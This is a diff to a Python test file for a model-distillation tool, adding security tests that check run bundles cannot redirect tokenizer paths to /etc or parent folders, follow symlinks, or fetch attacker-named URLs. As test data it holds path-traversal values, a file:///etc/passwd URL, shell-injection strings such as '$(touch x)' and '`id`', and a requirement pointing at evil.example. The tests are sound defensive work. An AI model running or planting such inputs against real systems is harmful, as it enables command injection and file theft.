@@ -22,15 +22,21 @@ from safetensors.torch import load_file, save_file
 from stranger import (
     FOREIGN,
     JUNK,
+    LABELS,
     OPENERS,
+    SPECS,
+    go_on,
     latest,
     make_run,
+    measure,
     mutated,
     places,
     plan_of,
     resume,
     rewrite,
+    see,
     toys_installed,
+    write_labels,
 )  # fmt: skip
 
 from kivfm_cli.app import main
@@ -41,7 +47,7 @@ from kivfm_core.distillation.engine import distill
 from kivfm_core.distillation.state.checkpoint import latest_checkpoint
 from kivfm_core.errors import DataError, KivfmError, PluginError, UsageError, WeightsError
 from kivfm_core.runs.run import open_run
-from kivfm_core.student.bundle import load_student
+from kivfm_core.student.bundle import load_student, read_bundle
 
 SLOW_OPENING = 5.0
 RECORDS = (
@@ -67,6 +73,7 @@ def run(made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
     (tmp_path / "foreign" / f"{module}.py").write_text(code)
     monkeypatch.syspath_prepend(str(tmp_path / "foreign"))
     copy = Path(shutil.copytree(made, tmp_path / "runs" / "a"))
+    write_labels(tmp_path / LABELS)
     with toys_installed():
         yield copy
     assert module not in sys.modules and not marker.exists()
@@ -166,6 +173,98 @@ def test_a_folder_of_this_machine_is_no_source_because_a_stranger_says_so(
     assert str(secret) not in caught.value.message
 
 
+@pytest.mark.parametrize("opener", [load_student, see, measure, resume, go_on])
+@pytest.mark.parametrize("folder", ["/etc", "../..", "runs/a/student/decoders/../../../.."])
+def test_a_tokenizer_is_not_read_where_a_stranger_says(
+    run: Path, folder: str, opener: Callable[[Path], Any]
+):
+    for file in ("composition.json", "student/student.json"):
+        rewrite(run / file, lambda r: plan_of(r)["teachers"][1]["tasks"][0].update(
+            tokenizer=f"run:{folder}"))  # fmt: skip
+    with pytest.raises(PluginError, match="as its tokenizer, which the installed"):
+        opener(run)
+
+
+@pytest.mark.parametrize("linked", ["classification", "classification/vocab.txt", ""])
+def test_a_bundles_own_tokenizer_is_no_link(run: Path, linked: str, tmp_path: Path):
+    kept = run / "student/decoders/toypurpose--small"
+    (tmp_path / "elsewhere/classification").mkdir(parents=True)
+    (tmp_path / "elsewhere/classification/vocab.txt").write_text("word")
+    (kept / linked).parent.mkdir(parents=True, exist_ok=True)
+    (kept / linked).symlink_to(tmp_path / "elsewhere" / linked)
+    with pytest.raises(WeightsError, match="is a link, and not followed"):
+        load_student(run)
+
+
+URLS = ("data:application/octet-stream;base64,AAAA", "file:///etc/passwd", "http://127.0.0.1:9/x")
+
+
+@pytest.mark.parametrize("url", URLS)
+def test_an_address_that_a_stranger_names_is_not_fetched(
+    run: Path, url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    """Not even where the stranger claims that nothing is here, and names kivfm's own fetcher."""
+
+    def change(record: dict[str, Any]) -> None:
+        for spec in (*plan_of(record)["teachers"], plan_of(record)["trunk"]):
+            spec["config"] = {"url": url}
+            spec["weights"].update(source="torch:none.pth", fetch="kivfm_teachers.fetch:from_url")
+
+    def fetch(*args: Any, **kwargs: Any) -> None:
+        raise AssertionError("it was fetched")
+
+    for target in ("urllib.request.urlopen", "kivfm_teachers.fetch.urlopen",
+                   "torch.hub.download_url_to_file"):  # fmt: skip
+        monkeypatch.setattr(target, fetch)
+    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
+    for file in ("composition.json", "student/student.json"):
+        rewrite(run / file, change)
+    config = tomllib.loads((run / "config.toml").read_text())
+    (run / "config.toml").write_text(tomli_w.dumps({**config, "weights": {}}))
+    for opener in (load_student, see, measure, resume, go_on):
+        with pytest.raises(PluginError, match="fetch:from_url as its fetch"):
+            opener(run)
+    assert not (tmp_path / "torch").exists()
+
+
+@pytest.mark.parametrize("url", URLS)
+def test_an_address_of_a_library_is_the_librarys_whatever_a_stranger_says(
+    run: Path, url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    """A teacher that may fetch: its weights come from where the installed plugin says."""
+    fetch = {"fetch": "kivfm_teachers.fetch:from_url", "source": "torch:none.pth"}
+    told: list[str] = []
+
+    def refuse(request: Any, *args: Any, **kwargs: Any) -> None:
+        told.append(request.full_url)
+        raise OSError("no network")
+
+    monkeypatch.setattr("kivfm_teachers.fetch.urlopen", refuse)
+    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
+    specs = [s.model_copy(update={
+        "config": {"url": "https://example.org/x"},
+        "weights": s.weights.model_copy(update=fetch)}) for s in SPECS]  # fmt: skip
+
+    def change(record: dict[str, Any]) -> None:
+        for spec in (*plan_of(record)["teachers"], plan_of(record)["trunk"]):
+            spec["config"] = {"url": url}
+            spec["weights"].update(fetch)
+
+    for file in ("composition.json", "student/student.json"):
+        rewrite(run / file, change)
+    config = tomllib.loads((run / "config.toml").read_text())
+    (run / "config.toml").write_text(tomli_w.dumps({**config, "weights": {}}))
+    with toys_installed(specs):
+        load_student(run)
+        see(run)  # neither takes weights other than the bundle's own
+        with pytest.raises(WeightsError, match="cannot fetch the weights"):
+            measure(run)
+        with pytest.raises(KivfmError):
+            go_on(run)
+    assert told and set(told) == {"https://example.org/x"}
+    assert not [file for file in (tmp_path / "torch").rglob("*") if file.is_file()]
+
+
 @pytest.mark.parametrize(
     "requirement",
     ["x' ; touch /tmp/x ; '", "nothing @ https://evil.example/a.whl", "$(touch x)", "`id`",
@@ -199,6 +298,28 @@ def test_links_and_pipes_are_not_followed(run: Path, file: str, plant: str, tmp_
         code, text = shown(capsys, *words)
         assert code in (0, 1, 2) and "--debug" not in text
     assert away.exists()
+
+
+@pytest.mark.parametrize("inside", [True, False])
+def test_a_bundle_in_the_hubs_cache_is_made_of_links(
+    run: Path, inside: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    """As the hub's library stores it; the same folder anywhere else is refused."""
+    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / ("hub" if inside else "another")))
+    repository = tmp_path / "hub/models--some-one--student"
+    snapshot = repository / "snapshots/1234"
+    (repository / "blobs").mkdir(parents=True)
+    for number, file in enumerate(sorted(p for p in (run / "student").rglob("*") if p.is_file())):
+        shutil.copyfile(file, repository / "blobs" / str(number))
+        link = snapshot / file.relative_to(run / "student")
+        link.parent.mkdir(parents=True, exist_ok=True)
+        link.symlink_to(os.path.relpath(repository / "blobs" / str(number), link.parent))
+    if inside:
+        assert read_bundle(snapshot).composition == load_student(run).composition
+        (snapshot / "student.safetensors").unlink()
+        (snapshot / "student.safetensors").symlink_to(run / "student/student.safetensors")
+    with pytest.raises(KivfmError):
+        read_bundle(snapshot)
 
 
 def hostile(name: str, state: dict[str, torch.Tensor], file: Path) -> None:
